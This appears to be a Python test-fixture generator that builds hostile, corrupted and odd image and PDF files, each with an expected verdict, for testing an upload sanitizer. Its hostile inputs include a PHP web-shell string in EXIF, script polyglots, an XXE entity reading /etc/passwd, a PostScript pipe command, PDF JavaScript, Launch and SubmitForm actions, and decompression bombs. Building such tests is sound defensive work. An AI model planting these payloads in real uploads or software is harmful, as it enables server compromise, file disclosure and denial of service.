"""Hostile, broken and odd files, made by program: more than two hundred, each with what must become of it.

Expectation: ``refused`` (with a reason), ``clean`` (accepted, made anew, nothing of the trick left), or ``either``
(damage a decoder may or may not survive: what comes back must be clean all the same).
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache

import pikepdf
import pillow_heif
from PIL import Image

MARKER = b"HOSTILE-MARKER-7f3a"


@dataclass(frozen=True)
class HostileFile:
    category: str
    name: str
    content: bytes
    expected: str


def _picture(width: int = 300, height: int = 240) -> Image.Image:
    return Image.radial_gradient("L").resize((width, height)).convert("RGB")


def _encoded(image: Image.Image, kind: str, **options: object) -> bytes:
    out = io.BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


@cache
def _sound() -> dict[str, bytes]:
    """One sound file of each accepted kind."""
    pillow_heif.register_heif_opener()
    made = {kind: _encoded(_picture(), kind.upper()) for kind in ("jpeg", "png")}
    made["heic"] = _encoded(_picture(), "HEIF")
    made["pdf"] = _saved(_document())
    return made


def _document(pages: int = 1, size: tuple[float, float] = (595, 842)) -> pikepdf.Pdf:
    document = pikepdf.new()
    for _ in range(pages):
        document.add_blank_page()
        document.pages[-1].MediaBox = [0, 0, *size]
    if pages:
        document.pages[0].Contents = document.make_stream(b"0 0 1 rg 100 100 200 200 re f")
    return document


def _saved(document: pikepdf.Pdf, **options: object) -> bytes:
    out = io.BytesIO()
    document.save(out, **options)
    return out.getvalue()


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def _packed(block: bytes, times: int) -> bytes:
    """A block repeated, compressed, without ever holding the whole."""
    packer = zlib.compressobj(6)
    return b"".join([packer.compress(block) for _ in range(times)] + [packer.flush()])


def _with_chunk(png: bytes, kind: bytes, body: bytes) -> bytes:
    return png[:33] + _chunk(kind, body) + png[33:]


def _flat_png(width: int, height: int, depth: int = 1) -> bytes:
    """A huge picture of nothing, a few kilobytes long."""
    packer = zlib.compressobj(9)
    row = bytes(1 + (width * depth + 7) // 8)
    rows = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    head = struct.pack(">IIBBBBB", width, height, depth, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", rows) + _chunk(b"IEND", b"")


def _truncated() -> Iterator[HostileFile]:
    for kind, content in _sound().items():
        for step in range(1, 13):
            cut = content[: len(content) * step // 13]
            yield HostileFile("truncated", f"{kind} {step}/13", cut, "either")


def _corrupted() -> Iterator[HostileFile]:
    for kind, content in _sound().items():
        for seed in range(12):
            rng = random.Random(f"{kind}{seed}")
            bytes_ = bytearray(content)
            for _ in range(1 + seed * 4):
                bytes_[rng.randrange(8, len(bytes_))] = rng.randrange(256)
            yield HostileFile("corrupted", f"{kind} {1 + seed * 4} bytes", bytes(bytes_), "either")


def _noise() -> Iterator[HostileFile]:
    heads = {
        "jpeg": b"\xff\xd8\xff\xe0",
        "png": b"\x89PNG\r\n\x1a\n",
        "pdf": b"%PDF-1.7\n",
        "heic": b"\0\0\0\x18ftypheic",
    }
    for kind, head in heads.items():
        for seed in range(10):
            body = random.Random(f"noise{kind}{seed}").randbytes(200 + seed * 700)
            yield HostileFile("noise after a good signature", f"{kind} {seed}", head + body, "either")


def _polyglots() -> Iterator[HostileFile]:
    script = b"<script>alert('" + MARKER + b"')</script>"
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as packed:
        packed.writestr("payload.js", MARKER)
    for kind, content in _sound().items():
        yield HostileFile("polyglot", f"{kind} + script", content + script, "clean")
        yield HostileFile("polyglot", f"{kind} + archive", content + archive.getvalue(), "clean")
        yield HostileFile("polyglot", f"script + {kind}", script + content, "refused")
        yield HostileFile("polyglot", f"archive + {kind}", archive.getvalue() + content, "refused")
    exif = Image.Exif()
    exif[270] = MARKER.decode() + "<?php system($_GET['c']); ?>"
    yield HostileFile("polyglot", "jpeg, program in EXIF", _encoded(_picture(), "JPEG", exif=exif), "clean")
    yield HostileFile("polyglot", "jpeg, comment", _encoded(_picture(), "JPEG", comment=script), "clean")
    png = _sound()["png"]
    yield HostileFile("polyglot", "png, text chunk", _with_chunk(png, b"tEXt", b"k\0" + script), "clean")
    yield HostileFile("polyglot", "png, unknown chunk", _with_chunk(png, b"zzZz", script), "clean")
    yield HostileFile("polyglot", "jpeg, false profile", _encoded(_picture(), "JPEG", icc_profile=MARKER * 20), "clean")


def _bombs() -> Iterator[HostileFile]:
    for width, height, depth in ((40000, 40000, 1), (65500, 8000, 1), (30000, 30000, 8), (200000, 300, 1)):
        yield HostileFile("bomb", f"png {width} × {height}", _flat_png(width, height, depth), "refused")
    png = _sound()["png"]
    packed = _packed(b"A" * 1_000_000, 200)
    yield HostileFile("bomb", "png, text of 200 MB", _with_chunk(png, b"zTXt", b"k\0\0" + packed), "either")
    yield HostileFile("bomb", "png, long text of 200 MB", _with_chunk(png, b"iTXt", b"k\0\1\0\0\0" + packed), "either")
    yield HostileFile("bomb", "png, profile of 200 MB", _with_chunk(png, b"iCCP", b"k\0\0" + packed), "either")
    jpeg = _sound()["jpeg"]
    place = jpeg.index(b"\xff\xc0")
    giant = jpeg[: place + 5] + struct.pack(">HH", 65500, 65500) + jpeg[place + 9 :]
    yield HostileFile("bomb", "jpeg, 65500 × 65500", giant, "refused")
    heic = _sound()["heic"]
    place = heic.index(b"ispe")
    giant = heic[: place + 8] + struct.pack(">II", 60000, 60000) + heic[place + 16 :]
    yield HostileFile("bomb", "heic, 60000 × 60000", giant, "refused")
    for size in (60, 420):
        document = _document()
        stream = pikepdf.Stream(document, _packed(b"0 0 m 1 1 l S " * 71_000, size))
        stream.Filter = pikepdf.Name.FlateDecode
        document.pages[0].Contents = document.make_indirect(stream)
        raw = {"compress_streams": False, "stream_decode_level": pikepdf.StreamDecodeLevel.none}
        yield HostileFile("bomb", f"pdf, drawing of {size} MB", _saved(document, **raw), "either")
    yield HostileFile("bomb", "pdf, picture of 60000 × 60000", _pdf_with_giant_picture(), "either")


def _pdf_with_giant_picture() -> bytes:
    document = _document()
    stream = pikepdf.Stream(document, _packed(bytes(1_000_000), 50))
    stream.stream_dict = pikepdf.Dictionary(
        Type=pikepdf.Name.XObject,
        Subtype=pikepdf.Name.Image,
        Width=60000,
        Height=60000,
        ColorSpace=pikepdf.Name.DeviceRGB,
        BitsPerComponent=8,
        Filter=pikepdf.Name.FlateDecode,
    )
    page = document.pages[0]
    page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(P=document.make_indirect(stream)))
    page.Contents = document.make_stream(b"595 0 0 842 0 0 cm /P Do")
    return _saved(document, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def _active(action: pikepdf.Dictionary, where: str) -> bytes:
    document = _document()
    action = document.make_indirect(action)
    if where == "open":
        document.Root.OpenAction = action
    elif where == "page":
        document.pages[0].AA = pikepdf.Dictionary(O=action)
    elif where == "names":
        names = pikepdf.Array([pikepdf.String("x"), action])
        document.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=names))
    else:
        link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 500, 500], A=action)
        document.pages[0].Annots = pikepdf.Array([document.make_indirect(link)])
    return _saved(document)


def _active_documents() -> Iterator[HostileFile]:
    marker = MARKER.decode()
    actions = {
        "script": {"S": pikepdf.Name.JavaScript, "JS": f"app.alert('{marker}')"},
        "program": {"S": pikepdf.Name.Launch, "F": f"{marker}.exe"},
        "form sent": {"S": pikepdf.Name.SubmitForm, "F": f"https://{marker}.example"},
        "data imported": {"S": pikepdf.Name.ImportData, "F": marker},
        "other file": {"S": pikepdf.Name.GoToR, "F": marker},
        "web address": {"S": pikepdf.Name.URI, "URI": f"https://{marker}.example"},
    }
    for name, action in actions.items():
        for where in ("open", "page", "names", "link"):
            content = _active(pikepdf.Dictionary(**action), where)
            yield HostileFile("active PDF", f"{name}, {where}", content, "clean")
    document = _document()
    document.attachments["program.exe"] = b"MZ" + MARKER
    yield HostileFile("active PDF", "attachment", _saved(document), "clean")
    for kind in ("RichMedia", "Movie", "Sound", "FileAttachment", "3D"):
        document = _document()
        note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(f"/{kind}"), Rect=[0, 0, 99, 99])
        document.pages[0].Annots = pikepdf.Array([document.make_indirect(note)])
        yield HostileFile("active PDF", f"annotation {kind}", _saved(document), "clean")
    document = _document()
    document.Root.AcroForm = pikepdf.Dictionary(XFA=document.make_stream(b"<xdp>" + MARKER + b"</xdp>"), Fields=[])
    yield HostileFile("active PDF", "XFA form", _saved(document), "clean")


def _odd_documents() -> Iterator[HostileFile]:
    def case(name: str, content: bytes, expected: str) -> HostileFile:
        return HostileFile("odd PDF", name, content, expected)

    yield case("user password", _saved(_document(), encryption=pikepdf.Encryption(user="u", owner="o")), "refused")
    yield case("owner password", _saved(_document(), encryption=pikepdf.Encryption(user="", owner="o")), "clean")
    yield case("no page", _saved(_document(0)), "refused")
    for pages in (11, 40, 400):
        yield case(f"{pages} pages", _saved(_document(pages)), "refused")
    for size in ((14400, 14400), (0.5, 0.5), (100000, 10)):
        yield case(f"page of {size[0]} × {size[1]} points", _saved(_document(size=size)), "refused")
    document = _document()
    form = document.make_stream(b"/Self Do")
    form.Type, form.Subtype, form.BBox = pikepdf.Name.XObject, pikepdf.Name.Form, [0, 0, 595, 842]
    form.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Self=form))
    document.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Self=form))
    document.pages[0].Contents = document.make_stream(b"/Self Do")
    yield case("a form that draws itself", _saved(document), "either")
    nested = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Count 1/Kids[2 0 R]>>endobj\n"
    yield case("a page tree that contains itself", nested + b"trailer<</Root 1 0 R>>", "refused")
    yield case("nested a hundred thousand deep", b"%PDF-1.4\n1 0 obj" + b"[" * 100_000 + b"endobj", "refused")
    yield case(
        "a table of nothing", b"%PDF-1.7\nxref\n0 99999999\ntrailer<</Size 99999999>>\nstartxref\n9\n%%EOF", "refused"
    )
    for filters in ("JBIG2Decode", "JPXDecode", "CCITTFaxDecode", "DCTDecode", "LZWDecode", "RunLengthDecode"):
        yield case(f"noise as {filters}", _pdf_with_noise(filters), "either")


def _pdf_with_noise(filters: str) -> bytes:
    document = _document()
    stream = pikepdf.Stream(document, random.Random(filters).randbytes(3000))
    stream.stream_dict = pikepdf.Dictionary(
        Type=pikepdf.Name.XObject,
        Subtype=pikepdf.Name.Image,
        Width=200,
        Height=200,
        ColorSpace=pikepdf.Name.DeviceGray,
        BitsPerComponent=8,
        Filter=pikepdf.Name(f"/{filters}"),
    )
    page = document.pages[0]
    page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(P=document.make_indirect(stream)))
    page.Contents = document.make_stream(b"200 0 0 200 0 0 cm /P Do")
    return _saved(document, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def _wrong_kinds() -> Iterator[HostileFile]:
    entity = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>'
    contents = {
        "gif": _encoded(_picture(), "GIF"),
        "webp": _encoded(_picture(), "WEBP"),
        "tiff": _encoded(_picture(), "TIFF"),
        "bmp": _encoded(_picture(), "BMP"),
        "eps": _encoded(_picture(), "EPS"),
        "ico": _encoded(_picture(64, 64), "ICO"),
        "tga": _encoded(_picture(), "TGA"),
        "ppm": _encoded(_picture(), "PPM"),
        "jpeg 2000": b"\0\0\0\x0cjP  \r\n\x87\n" + bytes(100),
        "svg": b"<svg xmlns='http://www.w3.org/2000/svg'/>",
        "svg with entity": entity,
        "html": b"<!doctype html><script>1</script>",
        "postscript": b"%!PS-Adobe-3.0\n(%pipe%id) (w) file",
        "photoshop": b"8BPS" + bytes(100),
        "program": b"MZ" + bytes(500),
        "elf": b"\x7fELF" + bytes(500),
        "archive": b"PK\x03\x04" + bytes(500),
        "old office": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500),
        "rtf": b"{\\rtf1 hello}",
        "mp4": b"\0\0\0\x18ftypisom" + bytes(200),
        "avif": b"\0\0\0\x18ftypavif" + bytes(200),
        "gzip": b"\x1f\x8b\x08" + bytes(100),
        "text": b"hello",
        "empty": b"",
        "one byte": b"\xff",
        "zeros": bytes(4096),
        "signature alone, jpeg": b"\xff\xd8\xff",
        "signature alone, png": b"\x89PNG\r\n\x1a\n",
        "signature alone, pdf": b"%PDF-",
        "too heavy": _sound()["png"] + bytes(11 * 1024 * 1024),
    }
    for name, content in contents.items():
        yield HostileFile("another kind of file", name, content, "refused")
    animation = _encoded(_picture(), "PNG", save_all=True, append_images=[_picture().rotate(90)])
    yield HostileFile("another kind of file", "animated png", animation, "refused")
    yield HostileFile("another kind of file", "png of 4 × 4", _encoded(_picture(4, 4), "PNG"), "refused")


def hostile_files() -> list[HostileFile]:
    """All of them, always the same."""
    makers = (
        _wrong_kinds, _polyglots, _active_documents, _odd_documents, _bombs, _truncated, _corrupted, _noise,
    )  # fmt: skip
    return [made for maker in makers for made in maker()]
